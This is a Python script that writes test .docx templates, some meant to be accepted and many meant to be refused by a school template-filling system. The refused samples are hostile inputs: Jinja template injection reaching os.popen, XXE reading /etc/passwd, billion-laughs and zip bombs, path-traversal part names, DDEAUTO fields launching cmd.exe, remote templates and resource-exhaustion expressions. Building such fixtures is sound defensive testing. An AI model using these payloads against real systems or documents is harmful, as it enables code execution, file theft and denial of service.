"""Writes data/templates: Word templates as a school might hand them in, good ones and hostile ones.

    python -m tools.make_templates_of_others

Each hostile one holds one attack and nothing else; all are built from parts by hand, so that they are small
and can hold what Word would never write. Writing twice gives the same bytes.
"""

from __future__ import annotations

import sys
from collections.abc import Callable, Mapping
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

FOLDER = Path(__file__).parent.parent / "data" / "templates"

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
FORMATS = "application/vnd.openxmlformats-officedocument.wordprocessingml"
SPACES = (
    f'xmlns:w="{W}" xmlns:r="{R}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:'
    'office:office" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'
)
RELATIONS = "application/vnd.openxmlformats-package.relationships+xml"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
PIXEL = (
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\6\0\0\0\x1f\x15\xc4\x89\0\0\0\rIDATx\x9cc\xf8\xff\xff?\0"
    b"\5\xfe\2\xfe\xa75\x81\x84\0\0\0\0IEND\xaeB`\x82"
)

Parts = dict[str, bytes]


def run(text: str) -> str:
    """A run with these letters, whatever they are."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<w:r><w:t xml:space="preserve">{escaped}</w:t></w:r>'


def paragraph(*texts: str) -> str:
    """A paragraph; each text is a run of its own, as Word's spelling checker leaves them."""
    between = '<w:proofErr w:type="spellStart"/>'
    return f"<w:p>{between.join(map(run, texts))}</w:p>"


def row(*texts: str) -> str:
    """A table row, a cell for each text."""
    cells = "".join(
        f'<w:tc><w:tcPr><w:tcW w:w="2000" w:type="dxa"/></w:tcPr>{paragraph(each)}</w:tc>' for each in texts
    )
    return f"<w:tr>{cells}</w:tr>"


def table(*rows: str, columns: int) -> str:
    """A table of rows."""
    grid = '<w:gridCol w:w="2000"/>' * columns
    width = '<w:tblPr><w:tblW w:w="0" w:type="auto"/></w:tblPr>'
    return f"<w:tbl>{width}<w:tblGrid>{grid}</w:tblGrid>{''.join(rows)}</w:tbl>"


def word(
    *body: str,
    header: str = "",
    more: Mapping[str, tuple[str, bytes]] | None = None,
    relations: str = "",
    part_relations: Mapping[str, str] | None = None,
    properties: str = "",
    main: str = f"{FORMATS}.document.main+xml",
) -> Parts:
    """The parts of a Word file; ``more`` are parts by name with their kind."""
    extra = dict(more or {})
    if header:
        inside = f"{HEAD}<w:hdr {SPACES}>{header}</w:hdr>".encode()
        extra["word/header1.xml"] = (f"{FORMATS}.header+xml", inside)
        relations += f'<Relationship Id="rIdH" Type="{R}/header" Target="header1.xml"/>'
    if properties:
        core = (
            f'{HEAD}<cp:coreProperties xmlns:cp="{PACKAGE}/metadata/core-properties" '
            f'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{properties}</dc:title></cp:coreProperties>'
        )
        extra["docProps/core.xml"] = (
            "application/vnd.openxmlformats-package.core-properties+xml",
            core.encode(),
        )
    section = '<w:sectPr><w:headerReference w:type="default" r:id="rIdH"/></w:sectPr>' if header else ""
    kinds = f'<Override PartName="/word/document.xml" ContentType="{main}"/>'
    kinds += "".join(
        f'<Override PartName="/{name}" ContentType="{kind}"/>' for name, (kind, _) in extra.items()
    )
    parts = {
        "[Content_Types].xml": (
            f'{HEAD}<Types xmlns="{PACKAGE}/content-types">'
            f'<Default Extension="rels" ContentType="{RELATIONS}"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Default Extension="png" ContentType="image/png"/>{kinds}</Types>'
        ).encode(),
        "_rels/.rels": rels(
            f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="word/document.xml"/>'
        ),
        "word/document.xml": (
            f"{HEAD}<w:document {SPACES}><w:body>{''.join(body)}{section}</w:body></w:document>".encode()
        ),
    }
    if relations:
        parts["word/_rels/document.xml.rels"] = rels(relations)
    for name, each in (part_relations or {}).items():
        parts[name] = rels(each)
    return parts | {name: content for name, (_, content) in extra.items()}


def rels(inside: str) -> bytes:
    """A list of what a part points at."""
    return f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">{inside}</Relationships>'.encode()


def external(kind: str, target: str) -> str:
    """A pointer out of the file."""
    return f'<Relationship Id="rIdX" Type="{R}/{kind}" Target="{target}" TargetMode="External"/>'


def zipped(parts: Parts, *, stored: bool = False) -> bytes:
    """The parts as a file whose bytes depend on nothing else."""
    out = BytesIO()
    with ZipFile(out, "w") as archive:
        for name, content in parts.items():
            member = ZipInfo(name, (1980, 1, 1, 0, 0, 0))
            member.compress_type = ZIP_STORED if stored else ZIP_DEFLATED
            archive.writestr(member, content)
    return out.getvalue()


def says(*texts: str) -> bytes:
    """A template with these paragraphs."""
    return zipped(word(paragraph("Name: {{ pupil_name }}"), *map(paragraph, texts)))


def instruction(code: str, *, pieces: int = 1) -> str:
    """One of Word's own fields; its code in so many pieces."""
    size = -(-len(code) // pieces)
    cut = [code[place : place + size] for place in range(0, len(code), size)]
    texts = "".join(f'<w:r><w:instrText xml:space="preserve">{each}</w:instrText></w:r>' for each in cut)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{texts}{end}</w:p>"


def own(body: str) -> bytes:
    """A template whose text holds these elements as they are."""
    return zipped(word(paragraph("Name: {{ pupil_name }}"), body))


def _bomb() -> bytes:
    return zipped(
        word(paragraph("{{ pupil_name }}"), more={"word/media/a.png": ("image/png", b"\0" * 48_000_000)})
    )


def _twice() -> bytes:
    first = zipped(word(paragraph("{{ pupil_name }}")))
    out = BytesIO(first)
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with ZipFile(out, "a") as archive:
            archive.writestr(ZipInfo("word/document.xml", (1980, 1, 1, 0, 0, 0)), b"<w:other/>")
    return out.getvalue()


def _stray(name: str) -> bytes:
    return zipped(word(paragraph("{{ pupil_name }}")) | {name: b"x"})


def _declares(declaration: str, use: str) -> bytes:
    parts = word(paragraph("{{ pupil_name }}"), paragraph("USE"))
    text = parts["word/document.xml"].decode().replace(HEAD, f"{HEAD}{declaration}\n").replace("USE", use)
    return zipped(parts | {"word/document.xml": text.encode()})


def _with_part(name: str, kind: str, content: bytes = b"x") -> bytes:
    return zipped(word(paragraph("{{ pupil_name }}"), more={name: (kind, content)}))


def _pointing(kind: str, target: str) -> bytes:
    return zipped(word(paragraph("{{ pupil_name }}"), relations=external(kind, target)))


def _attached() -> bytes:
    settings = f'{HEAD}<w:settings {SPACES}><w:attachedTemplate r:id="rIdX"/></w:settings>'.encode()
    return zipped(
        word(
            paragraph("{{ pupil_name }}"),
            more={"word/settings.xml": (f"{FORMATS}.settings+xml", settings)},
            part_relations={
                "word/_rels/settings.xml.rels": external("attachedTemplate", "http://example.invalid/a.dotm")
            },
        )
    )


def _in_header(text: str) -> bytes:
    return zipped(word(paragraph("{{ pupil_name }}"), header=paragraph(text)))


def _in_notes(kind: str, text: str) -> bytes:
    tag = {"footnotes": "footnote", "endnotes": "endnote", "comments": "comment"}[kind]
    inside = f'{HEAD}<w:{kind} {SPACES}><w:{tag} w:id="1">{paragraph(text)}</w:{tag}></w:{kind}>'.encode()
    return zipped(
        word(
            paragraph("{{ pupil_name }}"),
            more={f"word/{kind}.xml": (f"{FORMATS}.{kind}+xml", inside)},
            relations=f'<Relationship Id="rIdN" Type="{R}/{kind}" Target="{kind}.xml"/>',
        )
    )


def _in_custom(text: str) -> bytes:
    inside = (
        f'{HEAD}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
        'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
        f'<property fmtid="{{1}}" pid="2" name="a"><vt:lpwstr>{text}</vt:lpwstr></property></Properties>'
    )
    kind = "application/vnd.openxmlformats-officedocument.custom-properties+xml"
    return _with_part("docProps/custom.xml", kind, inside.encode())


def _in_styles(text: str) -> bytes:
    inside = f'{HEAD}<w:styles {SPACES}><w:style w:styleId="a"><w:name w:val="{text}"/></w:style></w:styles>'
    return _with_part("word/styles.xml", f"{FORMATS}.styles+xml", inside.encode())


def _text_box(text: str) -> str:
    box = f"<v:textbox><w:txbxContent>{paragraph(text)}</w:txbxContent></v:textbox>"
    return f'<w:p><w:r><w:pict><v:shape style="width:90pt">{box}</v:shape></w:pict></w:r></w:p>'


def _described(text: str) -> str:
    inline = f'<wp:inline><wp:extent cx="1" cy="1"/><wp:docPr id="1" name="a" descr="{text}"/></wp:inline>'
    return f"<w:p><w:r><w:drawing>{inline}</w:drawing></w:r></w:p>"


def _nested(depth: int) -> str:
    return "{% if pupil_name %}" * depth + "x" + "{% endif %}" * depth


OPEN_DOCUMENT = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}
CLIMB = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"

REFUSED: dict[str, Callable[[], bytes]] = {
    # not a Word file
    "empty": lambda: b"",
    "picture": lambda: PIXEL,
    "pdf": lambda: b"%PDF-1.7\n%nothing\n",
    "rich-text": lambda: rb"{\rtf1 {{ pupil_name }}}",
    "open-document": lambda: zipped(OPEN_DOCUMENT, stored=True),
    "workbook": lambda: zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}),
    "zip-of-files": lambda: zipped({"letter.txt": b"hello"}),
    "cut-short": lambda: says("{{ school }}")[:600],
    "no-fields": lambda: zipped(word(paragraph("A form with nothing to fill in."))),
    "no-text-part": lambda: zipped(word(paragraph("{{ pupil_name }}"), main="application/xml")),
    "not-well-formed": lambda: own("<w:p>"),
    # a container that lies
    "zip-bomb": _bomb,
    "part-twice": _twice,
    "part-outside": lambda: _stray("../../startup.bat"),
    "part-absolute": lambda: _stray("/etc/cron.d/a"),
    "many-parts": lambda: zipped(word(paragraph("x")) | {f"word/media/{n}.png": b"" for n in range(500)}),
    # declarations
    "entity-file": lambda: _declares('<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
    "entity-parameter": lambda: _declares(
        '<!DOCTYPE w [<!ENTITY % x SYSTEM "http://example.invalid/x"> %x;]>', "a"
    ),
    "entity-laughs": lambda: _declares(
        "<!DOCTYPE w [<!ENTITY a 'ha'>"
        + "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9))
        + "]>",
        "&j;",
    ),
    "entity-in-utf-16": lambda: zipped(
        word(paragraph("{{ pupil_name }}"))
        | {"word/document.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16")}
    ),
    "style-sheet": lambda: _declares('<?xml-stylesheet href="http://example.invalid/a.xsl"?>', "a"),
    # macros, objects, links
    "macros": lambda: zipped(
        word(paragraph("{{ pupil_name }}"), main="application/vnd.ms-word.document.macroEnabled.main+xml")
    ),
    "macro-part": lambda: _with_part("word/vbaProject.bin", "application/vnd.ms-office.vbaProject"),
    "macro-keys": lambda: _with_part(
        "word/customizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml"
    ),
    "program-in-a-control": lambda: _with_part(
        "word/activeX/activeX1.bin", "application/vnd.ms-office.activeX"
    ),
    "word-template": lambda: zipped(word(paragraph("{{ pupil_name }}"), main=f"{FORMATS}.template.main+xml")),
    "object": lambda: _with_part(
        "word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject"
    ),
    "object-element": lambda: own(
        '<w:p><w:r><w:object><o:OLEObject ProgID="Package"/></w:object></w:r></w:p>'
    ),
    "workbook-inside": lambda: _with_part(
        "word/embeddings/a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    ),
    "web-page-inside": lambda: own('<w:altChunk r:id="rId9"/>'),
    "picture-that-runs": lambda: _with_part("word/media/a.svg", "image/svg+xml", b"<svg onload='x()'/>"),
    "part-of-no-kind": lambda: _with_part("word/thing.dat", "application/x-thing"),
    "attached-template": _attached,
    "picture-elsewhere": lambda: _pointing("image", "http://example.invalid/seen.png"),
    "picture-on-a-share": lambda: _pointing("image", r"\\example.invalid\share\seen.png"),
    "frame-elsewhere": lambda: _pointing("frame", "http://example.invalid/a.htm"),
    "link-to-a-program": lambda: _pointing("hyperlink", "file:///C:/Windows/System32/calc.exe"),
    "loose-picture": lambda: own(
        '<w:p><w:r><w:pict><v:imagedata src="http://example.invalid/a.png"/></w:pict></w:r></w:p>'
    ),
    "field-that-runs": lambda: own(instruction('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')),
    "field-that-runs-in-pieces": lambda: own(
        instruction('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"', pieces=6)
    ),
    "field-that-fetches": lambda: own(instruction('INCLUDEPICTURE "http://example.invalid/a.png" \\d')),
    "field-simple": lambda: own('<w:p><w:fldSimple w:instr="INCLUDETEXT \\\\server\\a.docx"/></w:p>'),
    "mail-merge-source": lambda: _with_part(
        "word/settings.xml",
        f"{FORMATS}.settings+xml",
        f"{HEAD}<w:settings {SPACES}><w:mailMerge><w:query w:val='a'/></w:mailMerge></w:settings>".encode(),
    ),
    # fields that are none
    "unknown-field": lambda: says("Of {{ parrents_comments }}"),
    "unknown-column": lambda: says("{% for row in attendance_codes %}{{ row.kode }}{% endfor %}"),
    "unknown-list": lambda: says("{% for row in attendance_code %}{{ row.code }}{% endfor %}"),
    "unknown-filter": lambda: says("{{ school|shout }}"),
    "other-pupils": lambda: says("{% for each in pupils %}{{ each.name }}{% endfor %}"),
    "list-as-a-field": lambda: says("{{ attendance_codes }}"),
    "question-as-a-field": lambda: says("{{ certificate_page }}"),
    "for-without-end": lambda: says("{% for row in attendance_codes %}{{ row.code }}"),
    "end-without-if": lambda: says("{% endif %}"),
    "field-without-end": lambda: says("{{ school"),
    "two-words": lambda: says("{{ school name }}"),
    "row-called-as-a-field": lambda: says(
        "{% for school in attendance_codes %}{{ school.code }}{% endfor %}"
    ),
    "if-across-a-table": lambda: zipped(
        word(paragraph("{% if school %}"), table(row("{{ pupil_name }}{% endif %}"), columns=1))
    ),
    # code
    "climbing": lambda: says("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    "climbing-by-filter": lambda: says("{{ pupil_name|attr('__class__') }}"),
    "climbing-by-item": lambda: says("{{ pupil_name['__class__'] }}"),
    "climbing-by-column": lambda: says("{% for row in attendance_codes %}{{ row.__class__ }}{% endfor %}"),
    "climbing-by-map": lambda: says("{{ attendance_codes|map(attribute='__class__')|list }}"),
    "climbing-by-format": lambda: says("{{ '{0.__class__}'.format(pupil_name) }}"),
    "code-in-header": lambda: _in_header(CLIMB),
    "code-in-footnote": lambda: _in_notes("footnotes", CLIMB),
    "code-in-endnote": lambda: _in_notes("endnotes", CLIMB),
    "code-in-comment": lambda: _in_notes("comments", CLIMB),
    "code-in-properties": lambda: zipped(word(paragraph("{{ pupil_name }}"), properties=CLIMB)),
    "code-in-custom-properties": lambda: _in_custom(CLIMB),
    "code-in-styles": lambda: _in_styles("{{ cycler.__init__ }}"),
    "code-in-text-box": lambda: own(_text_box(CLIMB)),
    "code-in-description": lambda: own(_described("{{ cycler.__init__ }}")),
    "field-in-description": lambda: own(_described("{{ pupil_name }}")),
    "field-in-a-field": lambda: own(instruction("=1 {{ pupil_name }}")),
    "code-in-pieces": lambda: zipped(word("<w:p>" + "".join(map(run, "{{ cycler.__init__ }}")) + "</w:p>")),
    "code-by-number": lambda: own("<w:p><w:r><w:t>&#123;&#x7b; cycler.__init__ &#125;}</w:t></w:r></w:p>"),
    "code-in-cdata": lambda: own("<w:p><w:r><w:t><![CDATA[{{ cycler.__init__ }}]]></w:t></w:r></w:p>"),
    "code-in-a-shade": lambda: zipped(word(table(row("{% cellbg 9**9**9 %}{{ pupil_name }}"), columns=1))),
    "raw": lambda: says("{% raw %}{{ cycler.__init__ }}{% endraw %}"),
    "raw-round-code": lambda: says("{% raw %}{% endraw %}{{ cycler.__init__ }}{% raw %}{% endraw %}"),
    "note": lambda: says("{# {{ cycler.__init__ }} #}"),
    "sign-beside-bracket": lambda: says("{%- if school -%}a{%- endif -%}"),
    "set": lambda: says("{% set x = [] %}"),
    "macro": lambda: says("{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}"),
    "import": lambda: says("{% import 'a' as a %}"),
    "include": lambda: says("{% include 'a' %}"),
    "extends": lambda: says("{% extends 'a' %}"),
    "block": lambda: says("{% block a %}{% endblock %}"),
    "call-block": lambda: says("{% call pupil_name() %}{% endcall %}"),
    "filter-block": lambda: says("{% filter upper %}a{% endfilter %}"),
    "do": lambda: says("{% do attendance_codes.append(1) %}"),
    "debug": lambda: says("{% debug %}"),
    "call": lambda: says("{{ lipsum(n=100000) }}"),
    "method": lambda: says("{{ pupil_name.upper() }}"),
    "range": lambda: says("{% for a in range(1000000000) %}x{% endfor %}"),
    "loop-in-a-loop": lambda: says(
        "{% for a in certificate_weeks %}{% for b in certificate_weeks %}{{ b.monday }}",
        "{% endfor %}{% endfor %}",
    ),
    "loop-with-a-condition": lambda: says(
        "{% for a in certificate_weeks if 9**9 %}{{ a.monday }}{% endfor %}"
    ),
    "loop-recursive": lambda: says("{% for a in certificate_weeks recursive %}{{ loop(a) }}{% endfor %}"),
    "power": lambda: says("{{ 9**(9**9) }}"),
    "multiplied-words": lambda: says("{{ 'a' * 5000000000 }}"),
    "joined-words": lambda: says("{{ pupil_name ~ pupil_name }}"),
    "padded-words": lambda: says("{{ pupil_name|center(1000000000) }}"),
    "percent-bomb": lambda: says("{{ '%1000000000d' % 1 }}"),
    "number": lambda: says("{{ 100 }}"),
    "comparison": lambda: says("{% if 9**9**9 == 1 %}a{% endif %}"),
    "test": lambda: says("{% if pupil_name is defined %}a{% endif %}"),
    "choice": lambda: says("{{ pupil_name if school else cycler }}"),
    "default-that-computes": lambda: says("{{ pupil_name|default(9**9**9) }}"),
    "deep-brackets": lambda: says(
        "{{ " + "(" * 120 + "pupil_name" + ")" * 120 + " }}", "{{ " + "not " * 60 + "school }}"
    ),
    "deep-nots": lambda: says("{% if " + "not " * 40 + "school %}a{% endif %}"),
    "long-tag": lambda: says("{{ " + "a" * 5000 + " }}"),
    "many-tags": lambda: says("{{ school }}" * 2100),
}

TAKEN: dict[str, Callable[[], bytes]] = {
    "plain": lambda: says("{{ school }}", "{{ attendance_is_presently }}", "{{ childs_view }}"),
    "split-by-spelling": lambda: zipped(
        word(paragraph("Name: {", "{ pupil", "_na", "me }", "} of {{ sch", "ool }}"))
    ),
    "autocorrected": lambda: says(
        "{{\u00a0school\u00a0}}", "{{ siblings|default(\u201cnone told of\u201d) }}"
    ),
    "filters": lambda: says("{{ school|upper }} {{ pupil_name|title|lower }}"),
    "condition": lambda: says(
        "{% if siblings and not early_help %}{{ siblings }}{% else %}{{ early_help }}{% endif %}"
    ),
    "condition-by-paragraph": lambda: says(
        "{%p if certificate_page %}", "{{ certificate_heading }}", "{%p endif %}"
    ),
    "table": lambda: zipped(
        word(
            paragraph("{{ pupil_name }}"),
            table(
                row("Code", "Sessions"),
                row("{%tr for row in attendance_codes %}", ""),
                row("{{ row.code }}", "{{ row.sessions }}"),
                row("{%tr endfor %}", ""),
                columns=2,
            ),
        )
    ),
    "everywhere": lambda: zipped(
        word(paragraph("{{ pupil_name }}"), _text_box("{{ school }}"), header=paragraph("{{ initials }}"))
    ),
    "footnote": lambda: _in_notes("footnotes", "{{ notes_on_figures }}"),
    "link-to-a-page": lambda: zipped(
        word(
            f'<w:p><w:hyperlink r:id="rIdX">{run("The guidance")}</w:hyperlink></w:p>',
            paragraph("for {{ pupil_name }}"),
            relations=external("hyperlink", "https://www.gov.uk/"),
        )
    ),
    "mail-merge-field": lambda: own(instruction(" MERGEFIELD Forename ")),
    "page-numbers": lambda: own(instruction(" PAGE ")),
    "comment-in-the-margin": lambda: _in_notes("comments", "Is this still the form?"),
    "guid": lambda: own(
        '<w:p w:rsidR="{28A0092B-C50C-407E-A947-70E740481C1C}"><w:r><w:t>{{ school }}</w:t></w:r></w:p>'
    ),
}


def main() -> int:
    """Writes every one of them."""
    for name, made in (("refused", REFUSED), ("taken", TAKEN)):
        folder = FOLDER / name
        folder.mkdir(parents=True, exist_ok=True)
        for old in folder.glob("*.docx"):
            old.unlink()
        for each, content in made.items():
            (folder / f"{each}.docx").write_bytes(content())
    sys.stdout.write(f"{len(REFUSED)} refused, {len(TAKEN)} taken\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
